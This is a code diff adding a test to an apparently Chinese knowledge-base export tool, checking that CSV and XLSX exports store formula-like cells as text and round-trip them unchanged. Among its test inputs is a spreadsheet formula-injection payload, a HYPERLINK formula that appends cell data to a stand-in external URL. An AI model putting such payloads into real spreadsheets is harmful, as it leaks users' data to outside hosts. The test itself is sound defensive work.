@@ -187,3 +187,32 @@ async def test_real_catalogue_import_archives_untouched_demo_entries(database: D
         item = await s.scalar(select(ServiceItem).limit(1))
         await store.publish_now(s, "item", item, actor="editor", now=clock.now(), comment="恢复")
         assert (await store.published_data(s, "item", item.id)) is not None
+
+
+def test_formula_cells_are_text_in_exports_and_round_trip(tmp_path):
+    """An editor's (or an imported citizen's) "=HYPERLINK(…)" never becomes a formula in a KB export."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    header = [zh for _, zh in faq_table.COLUMNS]
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+86 0753-1234567", "-1+1", "@SUM(A1:A2)", "普通答案"]
+    rows = [header, *[[f"问题{i}", "", text, "", "", ""] for i, text in enumerate(hostile)]]
+
+    out_csv = tmp_path / "kb.csv"
+    faq_table.write_table(rows, out_csv)
+    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
+        raw = list(csv.reader(fh))
+    assert [r[2] for r in raw[1:]] == ["'" + t for t in hostile[:4]] + ["普通答案"]
+
+    out_xlsx = tmp_path / "kb.xlsx"
+    faq_table.write_table(rows, out_xlsx)
+    ws = load_workbook(out_xlsx).active
+    cells = [ws.cell(row=i + 2, column=3) for i in range(len(hostile))]
+    assert [c.data_type for c in cells] == ["s"] * len(hostile)
+    assert [c.value for c in cells] == hostile
+
+    for path in (out_csv, out_xlsx):
+        back, problems = faq_table.parse_rows(faq_table.read_table(path))
+        assert not problems
+        assert [r["answer"] for r in back] == hostile
